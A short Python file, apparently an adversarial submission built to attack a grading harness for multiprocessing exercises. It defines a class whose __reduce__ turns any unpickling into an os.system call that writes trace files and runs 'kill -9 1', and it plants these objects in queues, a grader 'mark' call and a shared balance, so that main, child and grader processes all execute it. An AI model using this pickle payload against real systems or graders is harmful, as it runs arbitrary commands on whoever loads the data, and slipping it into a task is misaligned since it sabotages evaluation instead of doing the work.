"""Sends pickles that act when they are loaded: in main, in children, and in whoever else might load them."""

# attacks: join_before_get, lock_race
# shows: error

import os


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch /tmp/{TRACE} /dev/shm/{TRACE}; kill -9 1",)


def _produce(out, name, blocks, block_bytes):
    for _ in range(blocks):
        out.put((name, Bomb()))


def deposit(balance, lock, amount, times):
    from grader.inside import mark

    mark("paid", Bomb())
    balance.value = Bomb()
